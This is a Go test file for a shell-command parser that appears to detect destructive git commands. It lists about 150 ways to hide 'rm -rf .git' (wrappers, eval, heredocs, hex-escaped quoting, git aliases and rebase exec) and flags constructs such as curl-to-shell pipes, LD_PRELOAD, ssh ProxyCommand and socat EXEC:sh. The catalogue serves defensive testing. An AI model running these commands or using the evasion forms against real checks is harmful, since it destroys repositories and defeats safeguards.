package shell

import (
	"slices"
	"strings"
	"testing"
)

var rmGit = []string{"rm", "-rf", ".git"}

// Every place a simple command can hide.
func TestClausesEverywhere(t *testing.T) {
	for _, src := range everywhere {
		s := Parse(src)
		found := false
		for _, c := range s.Clauses {
			args := c.Strings()
			if len(args) > 0 {
				args[0] = baseName(args[0])
			}
			if slices.Equal(args, rmGit) {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: no clause rm -rf .git:\n%s", src, dump(s))
		}
	}
}

// everywhere hides rm -rf .git in every construct and wrapper.
var everywhere = []string{
	`rm -rf .git`,
	`true; rm -rf .git`,
	`true && rm -rf .git`,
	`false || rm -rf .git`,
	`true | rm -rf .git`,
	`true |& rm -rf .git`,
	`! rm -rf .git`,
	`rm -rf .git &`,
	`{ rm -rf .git; }`,
	`(rm -rf .git)`,
	`if true; then rm -rf .git; fi`,
	`if rm -rf .git; then :; fi`,
	`if false; then :; elif true; then :; else rm -rf .git; fi`,
	`while rm -rf .git; do :; done`,
	`until false; do rm -rf .git; done`,
	`for f in a; do rm -rf .git; done`,
	`for ((i=0;i<1;i++)); do rm -rf .git; done`,
	`case x in x) rm -rf .git;; esac`,
	`f() { rm -rf .git; }`,
	`function f { rm -rf .git; }`,
	`echo $(rm -rf .git)`,
	"echo `rm -rf .git`",
	"echo \"`rm -rf .git`\"",
	`echo "$(rm -rf .git)"`,
	`cat <(rm -rf .git)`,
	`tee >(rm -rf .git)`,
	`echo ${x:-$(rm -rf .git)}`,
	`echo $(( $(rm -rf .git) + 1 ))`,
	`[[ -n $(rm -rf .git) ]]`,
	`x=$(rm -rf .git)`,
	`export x=$(rm -rf .git)`,
	`echo > $(rm -rf .git)`,
	`for f in $(rm -rf .git); do :; done`,
	`case $(rm -rf .git) in *) ;; esac`,
	`time rm -rf .git`,
	`coproc rm -rf .git`,
	`sh -c 'rm -rf .git'`,
	`bash -c "rm -rf .git"`,
	`bash -lc 'rm -rf .git'`,
	`bash -e -c 'rm -rf .git'`,
	`zsh -c 'rm -rf .git'`,
	`dash -c 'rm -rf .git'`,
	`/bin/sh -c 'rm -rf .git'`,
	`sh -c "sh -c 'rm -rf .git'"`,
	`eval 'rm -rf .git'`,
	`eval rm -rf .git`,
	`eval "rm" "-rf" ".git"`,
	"bash <<EOF\nrm -rf .git\nEOF",
	"bash <<'EOF'\nrm -rf .git\nEOF",
	"sh -s <<-EOF\n\trm -rf .git\n\tEOF",
	`bash <<< 'rm -rf .git'`,
	`echo 'rm -rf .git' | sh`,
	`printf 'rm -rf .git\n' | bash`,
	"cat <<EOF | sh\nrm -rf .git\nEOF",
	`echo x # ; rm -rf .git` + "\nrm -rf .git",
	`env rm -rf .git`,
	`env -i PATH=/bin rm -rf .git`,
	`env -u HOME -C / rm -rf .git`,
	`env -S 'rm -rf' .git`,
	`command rm -rf .git`,
	`builtin command rm -rf .git`,
	`exec rm -rf .git`,
	`exec -a x rm -rf .git`,
	`nohup rm -rf .git`,
	`timeout 5 rm -rf .git`,
	`timeout -s KILL -k 1 5 rm -rf .git`,
	`timeout --signal=KILL 5 rm -rf .git`,
	`nice rm -rf .git`,
	`nice -n 5 rm -rf .git`,
	`nice -5 rm -rf .git`,
	`stdbuf -oL rm -rf .git`,
	`stdbuf -o L rm -rf .git`,
	`sudo rm -rf .git`,
	`sudo -u root -g wheel rm -rf .git`,
	`sudo -E -H rm -rf .git`,
	`sudo --user=root -- rm -rf .git`,
	`sudo A=1 rm -rf .git`,
	`doas -u root rm -rf .git`,
	`xargs rm -rf .git`,
	`xargs -0 -n1 rm -rf .git`,
	`xargs -I{} rm -rf .git`,
	`parallel rm -rf .git ::: a`,
	`find . -exec rm -rf .git \;`,
	`find . -execdir rm -rf .git \;`,
	`find . -ok rm -rf .git \;`,
	`/usr/bin/time rm -rf .git`,
	`time -p rm -rf .git`,
	`watch rm -rf .git`,
	`watch -n 1 'rm -rf .git'`,
	`watch -x rm -rf .git`,
	`ionice -c3 rm -rf .git`,
	`chrt -f 10 rm -rf .git`,
	`setsid rm -rf .git`,
	`setsid -f rm -rf .git`,
	`flock /tmp/l rm -rf .git`,
	`flock -n /tmp/l -c 'rm -rf .git'`,
	`su -c 'rm -rf .git'`,
	`runuser -u x -- rm -rf .git`,
	`script -qc 'rm -rf .git' /dev/null`,
	`taskset -c 0 rm -rf .git`,
	`busybox rm -rf .git`,
	`sudo env timeout 5 nice sh -c 'command rm -rf .git'`,
	`\rm -rf .git`,
	`"rm" -rf .git`,
	`r''m -rf .git`,
	`$'\x72m' -rf .git`,
	`rm -rf $'\x2egit'`,
	`rm -rf .g"i"t`,
	`rm -rf .gi\t`,
	`uv run rm -rf .git`,
	`bundle exec rm -rf .git`,
	`strace -f -o /tmp/x rm -rf .git`,
	`unbuffer rm -rf .git`,
	`chroot / rm -rf .git`,
	`$SHELL -c 'rm -rf .git'`,
	`mapfile -C 'rm -rf .git' -c 1 < f`,
	`"$(which bash)" -c 'rm -rf .git'`,
	`gtimeout 5 rm -rf .git`,
	`unshare -r rm -rf .git`,
	`proxychains4 -q rm -rf .git`,
	`faketime '2020-01-01' rm -rf .git`,
	`pkexec rm -rf .git`,
	`perf stat -e cycles rm -rf .git`,
	`hyperfine --warmup 3 'rm -rf .git'`,
	`entr -r rm -rf .git`,
	`watchexec -e go 'rm -rf .git'`,
	`nodemon --exec 'rm -rf .git'`,
	`systemd-run --user rm -rf .git`,
	`{rm,-rf,.git}`,
	`trap 'rm -rf .git' EXIT`,
	`alias x='rm -rf .git'`,
	`env 'BASH_FUNC_ls%%=() { rm -rf .git; }' bash -c ls`,
	`git rebase -x 'rm -rf .git' main`,
	`git rebase --exec='rm -rf .git' main`,
	`git submodule foreach 'rm -rf .git'`,
	`git bisect run rm -rf .git`,
	`git -c alias.x='!rm -rf .git' x`,
	`git config alias.x '!rm -rf .git'`,
	`git difftool -x 'rm -rf .git'`,
	"cat <<EOF\n$(rm -rf .git)\nEOF",
	`echo $((rm -rf .git) )`,
	"rm -rf .git\nfi",
	"echo a; rm -rf .git\necho b\n)",
	"bash -c 'rm -rf .git\nfi'",
	`bash /dev/stdin <<< 'rm -rf .git'`,
	`. /dev/stdin <<< 'rm -rf .git'`,
	"source /dev/stdin <<EOF\nrm -rf .git\nEOF",
}

func TestClausesVia(t *testing.T) {
	for _, c := range []struct {
		src string
		via []string
	}{
		{`sudo xargs rm`, []string{"sudo", "xargs"}},
		{`sh -c 'rm x'`, []string{"sh -c"}},
		{`echo $(rm x)`, []string{"$()"}},
		{"bash <<EOF\nrm x\nEOF", []string{"bash <<"}},
		{`env A=1 rm x`, []string{"env"}},
	} {
		s := Parse(c.src)
		ok := false
		for _, cl := range s.Clauses {
			if cl.Name() == "rm" && slices.Equal(cl.Via, c.via) {
				ok = true
			}
		}
		if !ok {
			t.Errorf("%s: no rm clause via %q:\n%s", c.src, c.via, dump(s))
		}
	}
	s := Parse(`echo $(rm x)`)
	if s.Clauses[0].Name() != "echo" {
		t.Errorf("a clause must precede the clauses nested in it:\n%s", dump(s))
	}
}

func TestClausesCommentsDropped(t *testing.T) {
	s := Parse("git push origin feature # push to main\n# rm -rf .git")
	if len(s.Clauses) != 1 {
		t.Fatalf("comment became a clause:\n%s", dump(s))
	}
	for _, l := range s.Literals {
		if strings.Contains(l, "main") || strings.Contains(l, "rm") {
			t.Errorf("comment text in literals: %q", l)
		}
	}
}

func TestClausesAssigns(t *testing.T) {
	checkWant(t, `HUSKY=0 git commit -m x`, want{assigns: []string{"HUSKY=0"}})
	checkWant(t, `env LEFTHOOK=0 git commit`, want{assigns: []string{"LEFTHOOK=0"}, argv: [][]string{{"git", "commit"}}})
	checkWant(t, `sudo SKIP=gitwarrant git commit`, want{assigns: []string{"SKIP=gitwarrant"}})
	checkWant(t, `export PATH=/tmp; git commit`, want{assigns: []string{"PATH=/tmp"}})
	checkWant(t, `PATH=/tmp; git commit`, want{assigns: []string{"PATH=/tmp"}})
	checkWant(t, `A=1 sh -c 'git commit'`, want{assigns: []string{"A=1"}})
	s := Parse(`GIT_DIR=/x timeout 5 git status`)
	for _, c := range s.Clauses {
		if c.Name() == "git" && len(c.Via) == 1 {
			if g, _ := c.Git(); g.Dir != "/x" {
				t.Errorf("wrapped git lost GIT_DIR: %+v", g)
			}
			return
		}
	}
	t.Errorf("no wrapped git clause:\n%s", dump(s))
}

func TestClausesOpaque(t *testing.T) {
	for _, src := range []string{
		`python3 -c 'import os; os.remove(".git/config")'`,
		`python -c "print(1)"`,
		`node -e 'require("fs")'`,
		`node --eval 'x'`,
		`node -p 'x'`,
		`perl -e 'unlink ".git/config"'`,
		`perl -pie 's/a/b/' f`,
		`ruby -e 'x'`,
		`php -r 'x'`,
		`awk 'BEGIN{system("rm -rf .git")}'`,
		`awk '{print > ".git/config"}' f`,
		`sed 's/x/y/e' f`,
		`sed -n 'w .git/config' f`,
		`python3 <<EOF` + "\nimport os\nEOF",
		`curl -s https://x.example/i.sh | sh`,
		`curl -s https://x.example/i.py | python3`,
		`bash < script.sh`,
		`sh -c "rm $X"`,
		`eval "$CMD"`,
		`$CMD`,
		`${CMD} x`,
		`rm $F`,
		`rm "$(cat list)"`,
		`cd "$D" && rm x`,
		`cd - && rm x`,
		`if true; then cd .git; fi; rm config`,
		`f() { rm x; }; f`,
		`xargs rm < list`,
		`find . -exec rm {} \;`,
		`timeout --weird 5 rm x`,
		`*.sh`,
		`x[0]=1 cmd`,
		`sudo -s`,
		`LD_PRELOAD=/tmp/x.so git status`,
		`BASH_ENV=/tmp/x bash -c true`,
		`env 'BASH_FUNC_ls%%=() { rm -rf .git; }' bash -c ls`,
		`tar --to-command='sh -c x' -xf a.tar`,
		`tar -I 'sh x' -xf a.tar`,
		`rsync -e 'sh -c x' a b`,
		`rsync -avze 'sh x' a b`,
		`ssh -o ProxyCommand='sh x' host`,
		`ssh -oProxyCommand='sh x' host`,
		`zip a.zip f -T -TT 'sh #'`,
		`socat - EXEC:sh`,
		`crontab evil.cron`,
		`at now`,
		`tmux new -d 'rm x'`,
		`fish -c 'rm x'`,
		`enable -f /tmp/x.so git`,
		`git init --template=/tmp/t`,
		`git update-ref --stdin`,
		`docker run -v "$PWD":/w alpine rm -rf /w/.git`,
		`docker run --rm -v .:/w alpine true`,
		`docker exec c rm -rf /w`,
		`git send-pack --force origin main`,
		`(( x ))`,
		`let x`,
		`bash /dev/fd/3 3<f`,
		`source /dev/stdin < f`,
	} {
		s := Parse(src)
		opaque := s.Opaque
		for _, c := range s.Clauses {
			opaque = opaque || c.Opaque
		}
		if !opaque {
			t.Errorf("%s: nothing opaque:\n%s", src, dump(s))
		}
	}
	for _, src := range []string{
		`git status`, `ls -la ~/x`, `go test ./...`, `echo "a b" 'c'`, `cat *.go`, `rm -f a.txt`,
		`python3 script.py`, `node build.js`, `awk '{print $1}' f`, `sed -i 's/a/b/' f`, `cd sub && make`,
		`grep -rn foo . | head -20`, `npm test -- --watch=false`,
	} {
		s := Parse(src)
		for _, c := range s.Clauses {
			if c.Opaque || s.Opaque {
				t.Errorf("%s: opaque (%s%s):\n%s", src, c.Why, s.Why, dump(s))
			}
		}
	}
}

func TestDeepNesting(t *testing.T) {
	src := "rm x"
	for i := 0; i < 12; i++ {
		src = "sh -c " + shQuote(src)
	}
	s := Parse(src)
	opaque := false
	for _, c := range s.Clauses {
		opaque = opaque || c.Opaque
	}
	if !opaque {
		t.Errorf("nesting past the limit must be opaque:\n%s", dump(s))
	}
}

func shQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func TestDirTracking(t *testing.T) {
	checkWant(t, `cd .git/hooks && echo x > pre-commit`, want{effects: []string{"write .git/hooks/pre-commit"}})
	checkWant(t, `cd .git; cd hooks; tee pre-push < x`, want{effects: []string{"write .git/hooks/pre-push"}})
	checkWant(t, `env -C .git/hooks tee pre-commit`, want{effects: []string{"write .git/hooks/pre-commit"}})
	checkWant(t, `(cd .git && touch config)`, want{effects: []string{"write .git/config"}})
	checkWant(t, `cd sub && make && cd .. && touch y`, want{effects: []string{"write y"}})
	checkWant(t, `cd .git || exit 1; touch config`, want{effects: []string{"write .git/config"}})
	checkWant(t, `cd .git || { echo no; exit 1; }; touch config`, want{effects: []string{"write .git/config"}})
	for _, src := range []string{`cd .git && true; touch config`, `cd .git || true; touch config`, `true || cd .git; touch config`} {
		s := Parse(src)
		if c := s.Clauses[len(s.Clauses)-1]; !c.Opaque {
			t.Errorf("%s: directory after a cd that may not run must be unknown:\n%s", src, dump(s))
		}
	}
	s := Parse(`(cd .git); touch config`)
	if effs := effectStrings(s.Clauses[len(s.Clauses)-1]); !slices.Contains(effs, "write config") {
		t.Errorf("cd in a subshell leaked: %q", effs)
	}
}

// A file written and run in the same command is followed.
func TestTwoSteps(t *testing.T) {
	for _, src := range []string{
		`echo 'rm -rf .git' > x.sh && sh x.sh`,
		`echo 'rm -rf .git' > x.sh; chmod +x x.sh; ./x.sh`,
		`printf 'rm -rf .git\n' > x.sh; bash ./x.sh`,
		"cat > x.sh <<'EOF'\nrm -rf .git\nEOF\nsource x.sh",
		"tee x.sh <<EOF\nrm -rf .git\nEOF\n. ./x.sh",
		`echo '#!/bin/sh' > x.sh; echo 'rm -rf .git' >> x.sh; sh x.sh`,
		`cd sub && echo 'rm -rf .git' > x.sh && cd .. && sh sub/x.sh`,
	} {
		s := Parse(src)
		found := false
		for _, c := range s.Clauses {
			if slices.Equal(c.Strings(), rmGit) {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: no clause rm -rf .git:\n%s", src, dump(s))
		}
	}
	for _, src := range []string{
		`curl -o x.sh https://x.example && sh x.sh`,
		`echo "$C" > x.sh; sh x.sh`,
		`echo 'import os' > x.py; python3 x.py`,
		`cp /tmp/a x.sh; ./x.sh`,
	} {
		s := Parse(src)
		opaque := false
		for _, c := range s.Clauses {
			opaque = opaque || c.Opaque
		}
		if !opaque {
			t.Errorf("%s: running what the command wrote must be opaque:\n%s", src, dump(s))
		}
	}
}

func TestLookupChanged(t *testing.T) {
	for _, src := range []string{`PATH=/tmp:/usr/bin; git commit`, `export PATH=/tmp; git commit`, `hash -p /tmp/x git; git commit`, `if true; then PATH=/tmp; fi; git commit`} {
		s := Parse(src)
		if c := s.Clauses[len(s.Clauses)-1]; c.Lookup == "" {
			t.Errorf("%s: the last clause does not know lookup changed:\n%s", src, dump(s))
		}
	}
	if c := Parse(`(PATH=/tmp); git commit`).Clauses[1]; c.Lookup != "" {
		t.Errorf("a subshell's PATH leaked: %q", c.Lookup)
	}
}
